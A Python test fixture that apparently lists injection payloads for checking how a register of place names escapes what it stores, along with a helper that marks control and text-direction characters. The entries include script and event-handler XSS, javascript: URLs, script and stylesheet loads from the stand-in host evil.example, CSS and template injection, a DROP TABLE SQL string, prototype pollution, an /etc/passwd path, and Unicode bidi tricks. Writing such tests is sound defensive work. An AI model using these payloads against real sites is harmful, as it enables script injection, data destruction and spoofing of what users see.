"""Attacks that a register could hold where it should hold a name."""

RUN = "window.ran=1"
EVIL = "https://evil.example"

_HTML = {
    "script": f"<script>{RUN};alert(1)</script>",
    "script, odd spelling": f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    "script from elsewhere": f"<script src={EVIL}/a.js></script>",
    "script of a module": f'<script type="module">import "{EVIL}/m.js"</script>',
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a script, open": f"</script ><img src=x onerror={RUN}>",
    "comment in a script": "<!--<script>",
    "end of a style": f"</style></title></textarea><script>{RUN}</script>",
    "end of a title": f"</title><body onload={RUN}>",
    "end of a cell": f"</td></tr></table><script>{RUN}</script><table>",
    "picture": f"<img src=x onerror={RUN}>",
    "picture, slashes": f"<img/src='x'/onerror={RUN}//",
    "picture elsewhere": f"<img src={EVIL}/pixel.png>",
    "picture, set": f'<img srcset="{EVIL}/s.png 2x">',
    "film": f"<video src={EVIL}/v.mp4 autoplay onloadstart={RUN}></video>",
    "sound": f"<audio src=x onerror={RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "base": f"<base href={EVIL}/>",
    "reload": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "sheet": f'<link rel="stylesheet" href="{EVIL}/l.css">',
    "object": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e">',
    "form": f'<form action="{EVIL}"><button formaction="javascript:{RUN}">OK</button></form>',
    "folded": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "moving": f"<marquee onstart={RUN}>x</marquee>",
    "field": f"<input autofocus onfocus={RUN}>",
    "comment": "<!-- --!><!--[if IE]><p> ]]> <![CDATA[ &lt;b&gt; &amp;#60;",
    "references": "&#x3C;img src=x onerror&#x3D;1&#x3E; &lt;i&gt; &NewLine; &amp;lt;",
    "formatting": "<b>bold</b> <i>slanted</i><br>line <sub>below</sub>",
}
_ATTRIBUTES = {
    "attribute, double": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, single": f"' onmouseover='{RUN}' onfocus='{RUN}' x='",
    "attribute, bare": f"x onmouseover={RUN} tabindex=1",
    "attribute, closed": f'"><script>{RUN}</script>',
    "attribute, single, closed": f"'><svg onload={RUN}>",
    "style in an attribute": f'" style="background:url({EVIL}/b.png)',
    "moving style": f'" style="animation:x 1s" onanimationstart="{RUN}',
}
_DRAWINGS = {
    "drawing": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "use of a drawing": f'<svg><use href="{EVIL}/a.svg#x"/></svg>',
    "link in a drawing": f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>',
    "foreign part": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "changed link": f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    "formula": f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    "end of a drawing": f"</text></svg><script>{RUN}</script>",
}
_STYLES = {
    "style": f"<style>@import '{EVIL}/a.css'; body{{display:none}}</style>",
    "end of a rule": "} body { display: none } /* \\",
    "end of a string": f"\\\"; }} @import url({EVIL}/i.css); @page {{ content: \\'",
    "old style": f"x:expression({RUN}) -moz-binding:url({EVIL}/x.xml#y)",
}
_ADDRESSES = {
    "address": f"javascript:{RUN}//https://",
    "address, odd spelling": f"JaVa\tScRiPt&colon;{RUN}",
    "address of data": f"data:text/html,<script>{RUN}</script>",
    "address of an old script": f'vbscript:msgbox("{RUN}")',
    "link": f'<a href="javascript:{RUN}">Chisinau</a>',
    "link elsewhere": f'https://x" onclick="{RUN}" y=\'{EVIL}',
    "address of a file": "file:///etc/passwd ../../../etc/passwd",
}
_TEMPLATES = {
    "script template": f"${{{RUN}}} `${{{RUN}}}` $\\alpha$ #{{7*7}}",
    "backticks": f"`);{RUN};(` \\`",
    "end of a script string": f"\\\";{RUN};//\\';{RUN}; \\u003cscript\\u003e",
    "page template": "{{7*7}} {% raw %}{{config}} {% include 'x' %} {# y #}",
    "words with places": "{0} {0.__class__} {country} {number!r:>9} {} }{ {{}}",
    "words with signs": "%s %(name)s %n %d %% %(number)d",
    "catalogue of words": 'msgid "" msgstr "\\n" \\x00EOT\x04Reports',
    "mark-up": f"# *bold* [x](javascript:{RUN}) ![y]({EVIL}/m.png) <{EVIL}>",
    "code": f'""" + __import__(\'os\').getcwd() + """ \\N{{BULLET}} # {RUN}',
    "sheet formula": f'=HYPERLINK("{EVIL}") @SUM(1) +1 -1',
    "query": "'); DROP TABLE areas;-- \" OR 1=1",
    "prototype": '{"__proto__": {"ran": 1}, "constructor": 1}',
}
_LETTERS = {
    "direction": "Chi\u202esinau\u2066 \u200fBalti",
    "direction, isolates": "\u2067abc\u2069 \u061cdef \u200eghi\u202c",
    "control": "Or\x00hei\x07 \x1b[31mSoroca\x9b \x7f",
    "control, all": "".join(map(chr, [*range(1, 9), *range(14, 32), *range(128, 160)])) + "end",
    "no characters": "x\ufffe\uffffy",
    "no width": "Ungh\u200beni\u2060 \ufeffCahul\u00ad",
    "tags": "Ocni\U000e0001\U000e0041ța",
    "stacked": "C\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307riuleni",
    "look-alikes": "\uff1cscript\uff1e \u2039img\u203a \u02baonload",
    "long": "W" * 400,
}
PAYLOADS = (
    _HTML | _ATTRIBUTES | _DRAWINGS | _STYLES | _ADDRESSES | _TEMPLATES | _LETTERS
)  # fmt: skip

_CONTROL = [*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)]
_DIRECTION = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
#: What may neither run nor turn or hide the text around it is shown as a mark.
MARKED = dict.fromkeys([*_CONTROL, *_DIRECTION, 0xFFFE, 0xFFFF], "\ufffd")


def shown_as(payload: str) -> str:
    """What a reader sees: the same text, with a mark where a control character stood."""
    return " ".join(payload.translate(MARKED).split())
